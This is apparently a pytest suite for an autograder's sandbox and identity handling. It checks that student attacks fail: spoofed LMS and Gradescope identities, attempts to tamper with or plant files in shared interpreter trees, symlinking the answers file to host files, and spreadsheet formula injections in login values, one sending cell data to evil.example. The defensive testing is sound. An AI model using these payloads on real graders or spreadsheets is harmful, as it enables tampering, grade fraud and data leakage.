"""Attacks of the third grader review (issues 22 and 28), by an attacker new to the corpus, on what
changed since the second audit: the IPC folder reached through /proc/<pid>/root and held
descriptors, the interpreter bound from shared trees of hard links (runtime_copy), and per-student
grading with a roster. Each test asserts the property an attack went after; the ones that found
a breach failed before the fix that came with them."""

import csv
import json
import os
from pathlib import Path

import nbformat
import pytest

from coursebook.classroom.autograder.gradescope_results import gradescope_results
from coursebook.classroom.autograder.gradescope_run import write_results
from coursebook.classroom.exercise.checks import load_check_file
from coursebook.classroom.exercise.limits import Limits
from coursebook.classroom.grader import Status, grade_submission
from coursebook.classroom.grader.collect import collect, identify, nested_lms_names, resolve_ambiguous
from coursebook.classroom.grader.extract import read_answers
from coursebook.classroom.grader.feedback import write_pages
from coursebook.classroom.grader.per_student import StudentKeys, login_flag
from coursebook.classroom.grader.results import SubmissionResult, TaskResult, Verdict
from coursebook.classroom.grader.sandbox import IPC_PREFIX, layout
from coursebook.classroom.grader.store import ResultStore
from coursebook.classroom.grader.writers import (Row, describe, lms_grades, write_canvas, write_gradebook,
                                                 write_moodle)
from coursebook.classroom.roster import Roster
from tests.conftest import ROOT
from tests.helpers.courses import canvas_roster
from tests.helpers.grading import submission
from tests.helpers.processes import alive, descendants

FIXTURE = ROOT / "tests" / "fixtures" / "grading"
CHECKS = load_check_file(FIXTURE / "answers" / "checks" / "ex0-fixture.yml")
LIMITS = Limits(cell_timeout=20, total_timeout=40, startup_grace=25)
PERFECT = "share = 0.24\ngroup = 'TTP'\norder = ['takeover', 'decree', 'press conference']\n" \
          "pairs = {'Hirschman': 'influence effect', 'Schelling': 'compellence'}\n"
TRIGGERS = ("=", "+", "-", "@")


def notebook(path: Path, *cells: str) -> Path:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(code) for code in cells])
    nbformat.write(nb, path)
    return path


def result_of(points: float, **detail) -> SubmissionResult:
    tasks = {t.id: TaskResult(0.0, t.points, Verdict.INCORRECT, t.hint) for t in CHECKS.tasks}
    tasks["share"] = TaskResult(points, 2, Verdict.CORRECT if points else Verdict.INCORRECT, "")
    return SubmissionResult(student="", source="x", status=Status.OK, tasks=tasks, detail=detail)


# --- Identity: a file inside a student's own folder takes no LMS identity --------------------------

def plain_class(folder: Path) -> None:
    """A class collected as one folder per login (GitHub Classroom, a shared drive): Amy hands in her
    notebook and plants files and folders named the way Canvas and Moodle name Bob's."""
    for relative in ("amy.lee/ex1a.ipynb",
                     "amy.lee/raybob_102_9002_ex1a.ipynb",  # Canvas's name for Bob's file
                     "amy.lee/Bob Ray_12346_assignsubmission_file_/ex1a.ipynb",  # Moodle's folder
                     "amy.lee/Bob Ray_12346_assignsubmission_file_ex1a.ipynb",  # Moodle, flat
                     "amy.lee/sub/raybob_LATE_102_9003_ex1a.ipynb",
                     "bob.ray/ex1a.ipynb"):
        (folder / relative).parent.mkdir(parents=True, exist_ok=True)
        (folder / relative).write_text("{}", encoding="utf-8")


def test_a_file_in_a_students_own_folder_never_belongs_to_another_participant(tmp_path):
    # Breach: identify() took a Canvas identity from the LAST path part and a Moodle one from ANY
    # part, so in a plain folder class Amy's planted `raybob_102_...` file was Canvas user 102's
    # (Bob's): with a roster it was graded as Bob's, and without one canvas.csv gave Bob the
    # planted file's grade; her `Bob Ray_12346_assignsubmission_file_/` folder did the same in
    # Moodle. The LMS writes only the first path part; everything below is the student's.
    folder = tmp_path / "class"
    plain_class(folder)
    found = collect(folder, tmp_path / "unpacked")
    canvas = Roster.read(canvas_roster(tmp_path / "canvas.csv", [("Lee, Amy", "101", "a1", "amy.lee"),
                                                                   ("Ray, Bob", "102", "b2", "bob.ray")]))
    moodle_csv = tmp_path / "moodle.csv"
    moodle_csv.write_text("Identifier,Full name,Email address\nParticipant 12345,Amy Lee,amy.lee\n"
                          "Participant 12346,Bob Ray,bob.ray\n", encoding="utf-8")
    moodle = Roster.read(moodle_csv)
    for sub in found:
        first = sub.source.split("/")[0]
        for roster in (canvas, moodle):
            owner = roster.owner(sub.lms, sub.lms_id, sub.source)
            assert owner is not None and owner.login == first, (sub.source, owner)
    # The instructor hears of the LMS-like names below a first folder (an LMS zip unpacked one
    # folder too deep looks the same).
    assert sorted(nested_lms_names(found)) == sorted(s.source for s in found
                                                      if s.source.startswith("amy.lee/") and "_" in s.source)
    # Without a roster: no LMS file gives Bob the grade of a file from Amy's folder.
    rows = [Row(sub, result_of(0.0 if sub.source.startswith("amy.lee/") else 2.0)) for sub in found]
    write_canvas(rows, "ex1a", tmp_path / "canvas-import.csv")
    write_moodle(rows, 5, tmp_path / "moodle-import.csv")
    for lms in ("canvas", "moodle"):
        assert all(not sub.source.startswith("amy.lee/") for sub, _ in lms_grades(rows, lms))
    for path in (tmp_path / "canvas-import.csv", tmp_path / "moodle-import.csv"):
        text = path.read_text(encoding="utf-8")
        assert "102" not in text and "12346" not in text


def test_a_canvas_sortable_name_cannot_plant_another_students_user_id(tmp_path):
    # Breach: Canvas strips `_<digits>_` from a sortable name, but before it drops the name's other
    # punctuation, and students may edit their sortable name where "Users can edit their name" is
    # on. Mallory (113) names herself "Evil_102 _9 _, Mallory": Canvas's zip then holds
    # `evil_102_9_mallory_113_456_ex1a.ipynb`, whose FIRST ids are Bob's (102): with a roster it
    # was graded against Bob's key, without one canvas.csv wrote her grade into Bob's row.
    mallory = "evil_102_9_mallory_113_456_ex1a.ipynb"
    bob = "raybob_102_457_ex1a.ipynb"
    assert identify(mallory).get("lms_id") != "102"
    canvas = Roster.read(canvas_roster(tmp_path / "canvas.csv", [("Ray, Bob", "102", "b2", "bob.ray"),
                                                                   ("Evil, Mallory", "113", "m3", "mal")]))
    keys = StudentKeys(assignment=None, roster=canvas, course_file={})
    assert keys.owner(submission(mallory)) is None  # nobody's for sure: a not-on-roster row
    assert keys.owner(submission(bob)).login == "bob.ray"
    rows = [Row(submission(mallory), result_of(0.0)), Row(submission(bob), result_of(2.0))]
    assert [(sub.lms_id, grade) for sub, grade in lms_grades(rows, "canvas")] == [("102", "2")]
    assert "several students (102, 113)" in describe(rows[0].result, rows[0].submission)
    # With the class list, ids of nobody on it (a date in a file name) do not count; two listed
    # users' ids still make the file nobody's.
    dated = "leeamy_101_9001_ex1a_2024_05_01.ipynb"
    resolved = resolve_ambiguous([submission(mallory), submission(dated)], {"101", "102", "113"})
    assert [(s.lms, s.lms_id) for s in resolved] == [("", ""), ("canvas", "101")]
    # Honest names, late ones and underscores in a name or a file name still parse.
    for honest, user in [("leeamy_101_9001_ex1a.ipynb", "101"), ("leeamy_LATE_101_9001_ex1a.ipynb", "101"),
                         ("o_brienpat_40999_901000_ex0_final_2.ipynb", "40999"),
                         ("leeamy_101_9001_ex1a_v2_final.ipynb", "101")]:
        assert identify(honest)["lms_id"] == user


def test_a_gradescope_student_id_cannot_take_a_classmates_key(tmp_path):
    # Breach: gradescope_owner returned the first roster row matching a submitter by email OR
    # student ID. Mallory, whose email is on the roster, types Bob's login as her student ID (a
    # student enrolling with an entry code types it): in roster order Bob came first, so her
    # submission was graded against Bob's key, and a copy of Bob's notebook (login bob.ray) earned
    # full marks with no login flag.
    (tmp_path / "canvas.csv").write_text(
        "Student,ID,SIS User ID,SIS Login ID,Email\n"
        '"Ray, Bob",102,B-2,bob.ray,bob@uni.example\n"Evil, Mallory",113,M-3,mal,mallory@uni.example\n',
        encoding="utf-8")
    canvas = Roster.read(tmp_path / "canvas.csv")
    for sid in ("bob.ray", "B-2"):
        owner = canvas.gradescope_owner([{"email": "mallory@uni.example", "sid": sid}])
        assert owner is None or owner.login == "mal", (sid, owner)
    assert canvas.gradescope_owner([{"email": "mallory@uni.example", "sid": "M-3"}]).login == "mal"
    assert canvas.gradescope_owner([{"email": "bob@uni.example", "sid": ""}]).login == "bob.ray"


GRADESCOPE_LIST = ("Student,ID,SIS User ID,SIS Login ID,Email\n"
                   '"Ray, Bob",102,B-2,bob.ray,bob@uni.example\n'
                   '"Lee, Amy",101,A-1,amy.lee,amy@uni.example\n')


@pytest.mark.parametrize("sid", ["bob.ray", "B-2", " b-2 ", "BOB.RAY"])
def test_a_gradescope_submitter_not_on_the_list_cannot_take_a_classmate_by_student_id(tmp_path,
                                                                                     sid):
    # Breach: the fix above held only for a submitter whose email IS on the list. Mallory, whose
    # Gradescope email is not on it (she joined with the course's entry code, or under another
    # address), types Bob's login or SIS User ID as her student ID: the student ID alone picked
    # Bob, so her submission was graded against Bob's key and a copy of Bob's notebook (login
    # bob.ray) earned full marks with no flag. Gradescope documents `email`, `id` and `name` for a
    # submitter; the student ID is what the student typed. Where the list has emails, the email
    # decides, and an email that is not on it is nobody's.
    (tmp_path / "canvas.csv").write_text(GRADESCOPE_LIST, encoding="utf-8")
    canvas = Roster.read(tmp_path / "canvas.csv")
    for email in ("mallory@elsewhere.example", "", "mallory"):
        assert canvas.gradescope_owner([{"email": email, "sid": sid}]) is None, (email, sid)
        # ... also as the first of a group whose second member is not on the list either
        assert canvas.gradescope_owner([{"email": email, "sid": sid},
                                        {"email": "x@y.example", "sid": "A-1"}]) is None
    # The verified email still finds its owner, whatever student ID was typed, and in a group the
    # first member on the list counts.
    assert canvas.gradescope_owner([{"email": "bob@uni.example", "sid": "A-1"}]).login == "bob.ray"
    assert canvas.gradescope_owner([{"email": "mallory@elsewhere.example", "sid": sid},
                                    {"email": "AMY@uni.example ", "sid": ""}]).login == "amy.lee"
    refused = canvas.gradescope_match([{"email": "mallory@elsewhere.example", "sid": sid}])
    assert "email is not on the class list" in refused.note()
    # A list with no email for a student (Canvas's gradebook export has no email column) can only
    # go by the student ID for that student: the match says so, for the instructor to see.
    (tmp_path / "mixed.csv").write_text(GRADESCOPE_LIST + '"Day, Carol",103,C-3,carol.day,\n',
                                        encoding="utf-8")
    mixed = Roster.read(tmp_path / "mixed.csv")
    assert mixed.gradescope_owner([{"email": "mallory@elsewhere.example", "sid": sid}]) is None
    typed = mixed.gradescope_match([{"email": "carol@home.example", "sid": "c-3"}])
    assert typed.student.login == "carol.day" and "student ID" in typed.note()


@pytest.mark.parametrize("source, expected", [
    # Canvas's zip is flat and the part after the two ids is the student's own file name.
    ("evilmallory_113_9003_raybob_102_9002_ex1a.ipynb", "113"),
    ("evilmallory_LATE_113_9003_raybob_102_9002_ex1a.ipynb", "113"),
    # Moodle's folder (or flat prefix) comes first; a second prefix is the student's.
    ("Mallory Evil_113_assignsubmission_file_Bob Ray_12346_assignsubmission_file_x.ipynb", "113"),
    ("Mallory Evil_113_assignsubmission_file_/raybob_102_9002_ex1a.ipynb", "113"),
    ("Mallory Evil_113_assignsubmission_file_/a/Bob Ray_12346_assignsubmission_file_/x.ipynb", "113"),
])
def test_lms_names_a_student_chooses_move_nothing(source, expected):
    # Held: the LMS's own name decides (Moodle's first prefix); a Canvas file name that also holds
    # another user's ids in the student's own part belongs to nobody for sure (no LMS identity).
    assert identify(source).get("lms_id") in (expected, None)


# --- The shared trees of hard links (runtime_copy) --------------------------------------------------

POISON = """
import os
tried = {}
def attempt(name, action):
    try:
        action()
        tried[name] = 'done'
    except BaseException as exc:
        tried[name] = type(exc).__name__
def first_file(root, suffix):
    for folder, dirs, files in os.walk(root):
        dirs.sort()
        for name in sorted(files):
            if name.endswith(suffix):
                return os.path.join(folder, name)
targets = [first_file('/opt/python', '.py'), first_file('/opt/venv/lib', '.py'),
           first_file('/opt/coursebook', '.py'), '/opt/venv/bin/python', '/opt/venv/pyvenv.cfg',
           os.path.realpath('/opt/venv/bin/python')]
for path in [t for t in targets if t]:
    attempt('append ' + path, lambda: open(path, 'ab').write(b'\\nimport os; os.system("id")\\n'))
    attempt('truncate ' + path, lambda: os.truncate(path, 0))
    attempt('chmod ' + path, lambda: os.chmod(path, 0o777))
    attempt('utime ' + path, lambda: os.utime(path, (0, 0)))
    attempt('rename ' + path, lambda: os.rename(path, path + '.x'))
    attempt('unlink ' + path, lambda: os.unlink(path))
    attempt('link ' + path, lambda: os.link(path, '/tmp/linked'))
    if path.startswith(('/opt/python/', '/opt/venv/lib/', '/opt/coursebook/coursebook/')):
        # (bubblewrap's own folders around the binds, /opt/venv, are the sandbox's to write)
        attempt('new ' + path, lambda: open(os.path.dirname(path) + '/sitecustomize.py', 'x').write('x'))
attempt('pth', lambda: open('/opt/venv/lib/python3.11/site-packages/zz.pth', 'x').write('import os'))
import glob
seen = glob.glob('/tmp/cb-runtime-*') + glob.glob('/var/tmp/cb-runtime-*')
for fd in os.listdir('/proc/self/fd'):  # a descriptor the grader let in would reach the host
    try:
        target = os.readlink('/proc/self/fd/' + fd)
    except OSError:
        continue
    if not target.startswith(('socket:', 'pipe:', 'anon_inode:', '/dev/', '/tmp/home/', '/proc/')):
        seen.append(target)
done = [name for name, how in tried.items() if how == 'done' and not name.startswith('link ')]
share = 0.24 if tried and not done and not seen else 0.0
"""


def tree_state(root: Path) -> list[tuple]:
    """Every entry below `root`: path, type and mode, owner, size and modification time."""
    state = []
    for folder, dirs, files in os.walk(root):
        for name in sorted([*dirs, *files]):
            info = os.lstat(os.path.join(folder, name))
            state.append((os.path.relpath(os.path.join(folder, name), root), info.st_mode,
                          info.st_uid, info.st_size, info.st_mtime_ns))
    return sorted(state)


def grader_mounts() -> set[str]:
    """The host's mounts at a path the grader uses (older graders left IPC tmpfs mounts here)."""
    lines = Path("/proc/self/mountinfo").read_text(encoding="utf-8").splitlines()
    return {line.split(" - ")[0].split(" ", 4)[4] for line in lines
            if any(part in line for part in ("cb-runtime-", "coursebook-sandbox-", "cb-class-", "cb-ipc-"))}


def test_a_kernel_cannot_change_the_runtime_trees_later_runs_reuse(tmp_path):
    # Held: the trees are bound read-only (nosuid, no new privileges), the kernel is a uid of its
    # own, and no tree is visible inside; no write, chmod, utime, rename, unlink or new file lands.
    view = layout()
    trees = sorted({Path(source) for source, _ in view.mounts if "cb-runtime-" in source})
    trees = [t if t.is_dir() else t.parent for t in trees]
    assert trees, "the sandbox binds no tree of links here: nothing to attack"
    before = {tree: tree_state(tree) for tree in trees}
    mounts = grader_mounts()
    mine = descendants(os.getpid())
    result = grade_submission(notebook(tmp_path / "poison.ipynb", POISON), CHECKS, LIMITS)
    assert result.status is Status.OK, result.detail
    assert result.tasks["share"].points == 2  # every attempt failed, and the cell ran to the end
    assert {tree: tree_state(tree) for tree in trees} == before
    assert not alive(descendants(os.getpid()) - mine)
    assert grader_mounts() <= mounts  # nothing mounted on the host is left
    assert not list(Path("/tmp").glob(f"{IPC_PREFIX}{os.getpid()}-*"))


def test_the_trees_hold_where_the_sandbox_user_owns_their_files(tmp_path, monkeypatch):
    # Held: a grader that is not root runs bubblewrap in a user namespace where the sandbox's user
    # is the owner of the linked files (the instructor's venv is theirs): only the read-only binds
    # stand between the student and the next run's interpreter, and they hold.
    import subprocess
    from coursebook.classroom.grader import sandbox

    monkeypatch.setattr(sandbox, "_as_root", lambda: False)
    view = layout()
    trees = sorted({Path(source) for source, _ in view.mounts if "cb-runtime-" in source})
    trees = [t if t.is_dir() else t.parent for t in trees]
    before = {tree: tree_state(tree) for tree in trees}
    probe = POISON + "\nimport json\nprint(json.dumps(tried))\n"
    box = sandbox.Sandbox.create(tmp_path)
    try:
        done = subprocess.run(box.command([view.python, "-c", probe]), capture_output=True,
                              text=True, timeout=120)
    finally:
        box.remove()
    assert done.returncode == 0, done.stderr[-2000:]
    tried = json.loads(done.stdout.strip().splitlines()[-1])
    assert len(tried) > 30
    assert not [name for name, how in tried.items() if how == "done"], tried
    assert {tree: tree_state(tree) for tree in trees} == before


def test_an_unsandboxed_kernel_gets_none_of_the_graders_environment(tmp_path, monkeypatch):
    # Breach: without bubblewrap (Gradescope's containers forbid it, so run_autograder grades there
    # as a uid of its own that cannot read the key), jupyter_client started the kernel with the
    # grader's whole environment plus the allow-list: the course secret (COURSEBOOK_COURSE_SECRET,
    # from which every student's values follow) or any token of the grader's reached the student.
    monkeypatch.setenv("COURSEBOOK_COURSE_SECRET", "S3CRET-course")
    monkeypatch.setenv("SOME_API_TOKEN", "S3CRET-token")
    code = ("import os\nshare = 0.24\n"
            "group = 'TTP' if not any('S3CRET' in v for v in os.environ.values()) else 'leaked'\n")
    result = grade_submission(notebook(tmp_path / "env.ipynb", code), CHECKS, LIMITS, sandbox=False)
    assert result.status is Status.OK, result.detail
    assert result.tasks["share"].points == 2  # it ran
    assert result.tasks["group"].points == 1, "the kernel saw the grader's environment"


# --- The answers file, read through the IPC folder's descriptor ----------------------------------

LINK_ANSWERS = """
import os, re
from IPython import get_ipython
HOST = {host!r}
def hook(lines):
    found = re.search(r"__coursebook_extract\\(.*?, '(/run/kernel/[^']+)'\\)", ''.join(lines))
    if found:
        os.{how}(HOST, found.group(1))
        return ['pass\\n']
    return lines
get_ipython().input_transformers_cleanup.append(hook)
"""


@pytest.mark.parametrize("how", ["symlink", "link"])
def test_the_answers_file_cannot_be_a_link_to_a_host_file(tmp_path, how):
    # Held: the kernel learns the answers file's name (an input transformer sees the extraction
    # cell) and puts a link to a host file of perfect answers there; the grader opens the name
    # through the descriptor of the sandbox's own tmpfs without following it (a symlink), and a
    # hard link cannot cross into that tmpfs. Nothing of the host is read: no credit.
    host = tmp_path / "host-answers.json"
    perfect = [[{"h": b"share".hex()}, 0.24], [{"h": b"group".hex()}, {"h": b"TTP".hex()}]]
    host.write_text(json.dumps(perfect), encoding="utf-8")
    host.chmod(0o644)
    tmp_path.chmod(0o755)
    code = LINK_ANSWERS.format(host=str(host), how=how)
    result = grade_submission(notebook(tmp_path / "link.ipynb", code), CHECKS, LIMITS)
    assert result.total == 0, result.tasks
    assert result.status is Status.ANSWERS_UNREADABLE, result.detail
    assert json.loads(host.read_text(encoding="utf-8")) == perfect


# --- Crafted `login` values ------------------------------------------------------------------------

CRAFTED_LOGINS = [
    "A" * 4_000_000,  # huge (the answers file holds up to 8 MB)
    "\ud800amy\udfff",  # lone surrogates, as a forged answers file can carry them (plain JSON)
    "amy\x00.lee\x1b[31m",  # NUL and a terminal escape
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bob.ray;=1+1;@SUM(A1)|-2+3\t+cmd",
    "bob.ray",  # another student's login
    "  AMY.LEE ",  # the owner's, with case and spaces: not a mismatch
]


def pieces(cell: str) -> list[str]:
    out = [cell]
    for separator in ",;\t|\r\n":
        out = [piece for part in out for piece in part.split(separator)]
    return out


def test_crafted_login_values_are_inert_in_every_file_written(tmp_path):
    # Held: the login a notebook sets is the student's text: it lands in the gradebook, the feedback
    # pages and Gradescope's results only escaped and neutralised, capped, and it never stops a
    # writer; only the owner's own login (any case and spaces) is not flagged.
    rows = []
    store = ResultStore(tmp_path / "results")
    for index, login in enumerate(CRAFTED_LOGINS):
        forged = tmp_path / f"answers-{index}.json"
        forged.write_text(json.dumps([["login", login], [{"h": b"share".hex()}, 0.24]]),
                          encoding="utf-8")
        answers = read_answers(forged)
        assert answers is not None and answers["login"] == login
        flag = login_flag(answers["login"], "amy.lee")
        assert bool(flag) == (login.strip().lower() != "amy.lee")
        result = result_of(2.0, **flag)
        store.save(f"r{index}", result)
        loaded = store.load(f"r{index}")
        assert loaded is not None and loaded.detail == result.detail
        rows.append(Row(submission(f"leeamy_101_{9000 + index}_ex1a.ipynb"), loaded))
        results = gradescope_results(loaded, CHECKS, LIMITS, version="test")
        root = tmp_path / f"gs-{index}"
        written = write_results(root, results)
        back = json.loads(written.read_text(encoding="utf-8"))
        assert back["score"] == 2 and len(json.dumps(back)) < 100_000
    write_gradebook(rows, CHECKS, 0, tmp_path / "gradebook.csv")
    write_pages(rows, CHECKS, "", 0, tmp_path / "out")
    with (tmp_path / "gradebook.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len((tmp_path / "gradebook.csv").read_bytes()) < 200_000  # the huge login is capped
    assert "\x00" not in "".join(cells) and "\x1b" not in "".join(cells)
    for cell in cells:
        for piece in pieces(cell):
            assert not piece.lstrip(" \u00a0").startswith(TRIGGERS), (cell[:120], piece[:60])
    pages = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*.html"))
    assert pages and "\x00" not in pages and len(pages) < 2_000_000
